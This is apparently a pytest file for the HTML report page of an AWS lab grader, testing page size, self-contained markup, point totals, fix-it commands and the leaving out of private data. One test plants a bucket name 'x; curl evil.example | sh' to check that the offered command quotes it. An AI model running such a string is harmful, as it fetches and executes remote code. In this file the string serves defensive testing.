"""What the page says of an account, and what it never says."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from dataclasses import replace
from fractions import Fraction

import html5lib
import pytest

from grader.grading.pipeline import Graded
from grader.grading.results import points
from grader.report.page.page import render_page
from grader.report.templating import TEMPLATES
from tests.cases import case, golden, grade, grade_one, patched
from tests.report.states import STATES, emptied, plain

Pages = Callable[[str], str]
Results = Callable[[str], Graded]
XHTML = "{http://www.w3.org/1999/xhtml}"


@pytest.mark.parametrize("state", STATES)
def test_a_page_is_below_150_kilobytes(page_of: Pages, state: str) -> None:
    """A page can be sent by mail, whatever it has to say."""
    assert len(page_of(state).encode()) < 150_000


@pytest.mark.parametrize("state", STATES)
def test_a_page_is_valid_html_and_refers_to_nothing_outside(page_of: Pages, state: str) -> None:
    """A strict parser takes it; its one script is its own, and nothing is loaded from anywhere."""
    parser = html5lib.HTMLParser(strict=True)
    elements = list(parser.parse(page_of(state)).iter())
    names = {element.tag.rpartition("}")[2] for element in elements}
    scripts = [element for element in elements if element.tag == f"{XHTML}script"]
    assert [script.text for script in scripts] == [(TEMPLATES / "page.js").read_text("utf-8")]
    assert not names & {"link", "img", "image", "iframe", "object", "embed", "use", "base", "form", "audio"}
    for element in elements:
        for name, value in element.attrib.items():
            if name == "href":
                assert element.tag == f"{XHTML}a"
                assert re.match(r"#[\w.-]+$|https://", value)
            assert name != "src"
            assert name != "style"
            assert not name.startswith("on")
    style = next(element.text for element in elements if element.tag == f"{XHTML}style")
    assert not re.search(r"@import|@font-face|url\((?!#)", style)


@pytest.mark.parametrize("state", STATES)
def test_every_link_within_the_page_leads_somewhere(page_of: Pages, state: str) -> None:
    """Each fragment that is linked to exists, and no id stands twice."""
    page = page_of(state)
    ids = re.findall(r'\bid="([^"]*)"', page)
    assert len(ids) == len(set(ids))
    assert set(re.findall(r'href="#([^"]*)"', page)) <= set(ids)


@pytest.mark.parametrize("state", STATES)
def test_every_item_and_every_check_is_on_the_page_in_the_order_of_the_handout(
    page_of: Pages, graded: Results, state: str
) -> None:
    """All 26 steps under their six sections, each with its checks in words and its points."""
    page, result = page_of(state), graded(state).result
    steps = plain(page.partition('id="steps"')[2])
    titles = [f"{item.id} {item.title}".replace("&", "&amp;") for item in result.items]
    places = [steps.index(title) for title in titles]
    assert places == sorted(places)
    assert all(item.section.replace("&", "&amp;") in steps for item in result.items)
    assert all(check.title in steps for item in result.items for check in item.checks)


@pytest.mark.parametrize("state", STATES)
def test_the_top_says_score_range_time_account_and_regions(page_of: Pages, graded: Results, state: str) -> None:
    """The first screen says how much, of what, whose, and when."""
    page, result = page_of(state), graded(state).result
    top = plain(page.partition("</header>")[0])
    low, high = result.score_range
    assert f"{points(low)}/ {points(result.max_score)}" in top
    assert (f"up to {points(high)}, if the open points are earned" in top) == (high > low)
    assert result.account in top
    assert "20 November 2026, 10:00 UTC" in top
    assert result.regions[0] in top
    for bound in result.bindings.values():
        assert bound.name in top
        assert bound.why.replace("'", "&#39;") in top
        assert bound.runner_up is None or bound.runner_up in top


def test_academy_pages_show_both_scales() -> None:
    """The score of 9.25 and its conversion to 10 stand side by side; left-out steps say so."""
    page = plain(render_page(grade_one(patched("V119"))))
    assert "9.25/ 9.25" in page
    assert "On the scale of 10.00: 10.00" in page
    assert page.count("does not apply") >= 3
    assert "AWS Academy Learner Lab or AWS Educate" in page


def test_causes_stand_in_the_order_of_the_points_that_they_recover(page_of: Pages) -> None:
    """The listener first, with the steps that fail because of it; then the route; then the missing device."""
    todo = plain(page_of("several faults").partition('id="next"')[2].partition("</ol>")[0])
    assert re.findall(r"this recovers ([\d.]+) points?", todo) == ["0.60", "0.125", "0.05"]
    assert "0.35 of this is in steps that depend on it: fix 4.7 first" in todo
    assert todo.index("4.7 Set up an Application Load Balancer") < todo.index("5.5 The load balancer leads")
    assert todo.index("5.5 The load balancer leads") < todo.index("4.4 Configure route tables")


@pytest.mark.parametrize("state", STATES)
def test_recovered_points_sum_to_the_lost_ones(page_of: Pages, graded: Results, state: str) -> None:
    """Every lost point is recovered by exactly one of the causes, every open one settled by one of the reasons."""
    gains = re.findall(r'class="gain num[^"]*">(?:this recovers )?([\d.]+) point', page_of(state))
    result = graded(state).result
    assert sum(map(Fraction, gains)) == result.lost + result.open


def test_a_failed_check_says_what_was_found_and_expected_where_to_look_and_what_to_type(page_of: Pages) -> None:
    """Found, expected, the handout's step, the console page of the right region, commands with the right ids."""
    page = page_of("several faults")
    card = page.partition("Configure route tables")[2].partition("</li>")[0]
    assert "has no route to 0.0.0.0/0" in plain(card)
    assert "Expected 0.0.0.0/0 → the internet gateway of this VPC" in plain(card)
    assert "Step 4.4 In the public route table, add a route for 0.0.0.0/0 to the internet gateway" in plain(card)
    assert (
        "https://eu-west-1.console.aws.amazon.com/vpcconsole/home?region=eu-west-1#RouteTables:vpcId=vpc-0a1b2c3d4e5f60718"
        in card
    )
    assert (
        "aws ec2 create-route --region eu-west-1 --route-table-id rtb-0c1111111111111c1"
        " --destination-cidr-block 0.0.0.0/0 --gateway-id igw-0d1111111111111d1"
    ) in card


def test_open_points_say_what_to_grant_to_whom_and_that_they_cost_nothing() -> None:
    """A refusal names the action, the caller and the reason for which it is not held against the student."""
    document = golden()
    error = {"Code": "AccessDenied", "Message": "is not authorized", "HTTPStatusCode": 403}
    document["calls"]["ecr.DescribeImages"]["eu-west-1"]["repositoryName=sentiment-app"] = {"error": error}
    page = plain(render_page(grade_one(document)))
    assert "Attach a policy that allows ecr:DescribeImages to arn:aws:iam::123456789012:user/mlops-admin" in page
    assert (
        "Not counted against you: a denied request proves nothing. To settle it, grant ecr:DescribeImages to arn:aws"
        in page
    )


def test_the_caller_that_collected_is_the_one_to_grant_to() -> None:
    """Where the evidence names who asked, that is who lacks the permission; e-mail addresses in it are left out."""
    document = patched("U02")
    document["meta"]["caller"] = "arn:aws:sts::123456789012:assumed-role/voclabs/user123=name@example.edu"
    page = render_page(grade_one(document))
    assert "assumed-role/voclabs/user123=[e-mail]" in page
    assert "name@example.edu" not in page


def test_a_session_that_had_ended_is_said_before_the_score(page_of: Pages) -> None:
    """The notice stands first: what follows it is not a grade."""
    page = page_of("session ended")
    assert page.index("this is not a grade") < page.index('class="score')


def test_evidence_goes_down_to_the_answer(page_of: Pages) -> None:
    """From a check to the question, its region, and what AWS answered or why it refused."""
    page = page_of("several faults")
    item = page.partition('id="step-1.4"')[2].partition("</article>")[0]
    number = re.search(r'href="#(a\d+)">budgets.DescribeBudgets', item)
    assert number is not None
    answer = plain(page.partition(f'id="{number[1]}"')[2].partition("</pre>")[0])
    assert "AccessDeniedException" in answer
    vpcs = page.partition("<code>ec2.DescribeVpcs</code>")[2].partition("</pre>")[0]
    assert "CidrBlock: 10.0.0.0/16" in vpcs


@pytest.mark.parametrize("state", STATES)
def test_private_things_are_not_on_a_page(page_of: Pages, state: str) -> None:
    """No e-mail address and no access-key id of the account is on it."""
    page = page_of(state)
    assert "@example" not in page
    assert not re.search(r"(AKIA|ASIA)[A-Z0-9]{12}", page)


def test_log_lines_and_secret_settings_are_not_on_a_page() -> None:
    """What the application logged or was told in secret stands neither in the evidence nor in a message."""
    document = patched("M051")
    groups = document["calls"]["logs.FilterLogEvents"]["eu-west-1"]
    for entry in groups.values():
        for event in entry["response"]["events"]:
            event["message"] = f"MARIA-1984 {event['message']}"
    for keys in document["calls"]["ecs.DescribeTaskDefinition"].values():
        for entry in keys.values():
            container = entry["response"]["taskDefinition"]["containerDefinitions"][0]
            container["environment"].append({"name": "DB_PASSWORD", "value": "hunter2"})
    page = render_page(grade_one(document))
    assert "MARIA-1984" not in page
    assert "hunter2" not in page
    assert "shows a problem with S3: a line says" in page
    assert "DB_PASSWORD" in page


def test_commands_are_safe_to_paste() -> None:
    """A name with shell syntax stays one word of the command that is offered."""
    document = patched("M042")
    hostile = "x; curl evil.example | sh; $(id) `id`"
    text = document["calls"]["s3.ListBuckets"]["global"][""]["response"]["Buckets"][0]
    calls = document["calls"]
    was = text["Name"]
    text["Name"] = hostile
    for operation in ("s3.GetPublicAccessBlock", "s3.ListObjectsV2"):
        asked = calls[operation]["global"]
        asked[f"Bucket={hostile}"] = asked.pop(f"Bucket={was}")
    page = render_page(grade_one(document))
    assert "--bucket &#39;x; curl evil.example | sh; $(id) `id`&#39;" in page
    assert "https://eu-west-1.console.aws.amazon.com/s3/buckets/x%3B%20curl" in page


def test_the_same_evidence_gives_the_same_page() -> None:
    """Nothing of the moment of grading is on the page: who appeals gets the page that was sent, to the byte."""
    first, again = (grade_one(patched("M182")) for _ in range(2))
    later = replace(again, result=replace(again.result, graded_at=again.result.graded_at.replace(year=2040)))
    assert render_page(first) == render_page(later)


def test_every_kept_case_has_a_page() -> None:
    """No case that we know stops the page, or makes it too large."""
    names = [
        case(name).id for name in ("M046", "M060", "M080", "M129", "M161", "M241", "U04", "U07", "U16", "U18", "U19")
    ]
    names += ["V11", "V17", "V22", "V56", "V78", "V110", "V118"]
    for graded in grade({name: patched(name) for name in names}).values():
        assert len(render_page(graded).encode()) < 150_000


def test_a_large_account_has_a_small_page() -> None:
    """Hundreds of VPCs and thousands of subnets, groups and images: the page stays below 150 kB, and quick."""
    document = golden()
    vpcs = document["calls"]["ec2.DescribeVpcs"]["eu-west-1"][""]["response"]["Vpcs"]
    vpcs += [{**vpcs[-1], "VpcId": f"vpc-{n:017x}", "IsDefault": False, "Tags": []} for n in range(500)]
    subnets = document["calls"]["ec2.DescribeSubnets"]["eu-west-1"][""]["response"]["Subnets"]
    own = [one for one in subnets if not one["DefaultForAz"]]
    subnets += [{**own[n % len(own)], "SubnetId": f"subnet-{n:017x}", "Tags": []} for n in range(5000)]
    graded = grade_one(document)
    page = render_page(graded)
    assert len(page.encode()) < 150_000
    assert "more subnets" in page
    assert "Other VPCs, not graded" in page


def test_an_account_in_which_nothing_was_made_is_told_to_begin() -> None:
    """Nothing to draw and nothing to bind: the page still says what to do first."""
    page = plain(render_page(grade_one(emptied(("eu-west-1",)))))
    assert "no resource that could belong to the lab was found" in page.replace("'", "&#39;")
    assert "this recovers" in page


def test_an_instructors_award_is_shown_apart() -> None:
    """Bonus points count into the score and are named as what they are."""
    graded = grade_one(golden())
    page = plain(render_page(replace(graded, result=replace(graded.result, bonus=Fraction(1, 2)))))
    assert "10.50/ 10.00" in page
    assert "0.50 awarded by the instructor" in page
    assert "10.00 earned" in page


def test_the_second_page_is_quick(graded: Results) -> None:
    """Regression only, far above the goal of 20 ms: a page must never take as long as reading an account."""
    render_page(graded("full marks"))
    start = time.process_time()
    render_page(graded("full marks"))
    assert time.process_time() - start < 0.5


def test_an_empty_account_says_once_what_is_missing(page_of: Pages) -> None:
    """That there is no VPC is the reason for a dozen lost checks; a student reads it once in each part of the page."""
    page = page_of("empty account")
    shown = re.sub(r"<title>.*?</title>", "", page, flags=re.DOTALL)
    for thing in ("VPC of your own", "ECS service", "task definition", "Application Load Balancer"):
        assert 1 <= shown.count(f"There is no {thing} in ") <= 4
        assert "in no VPC" not in shown
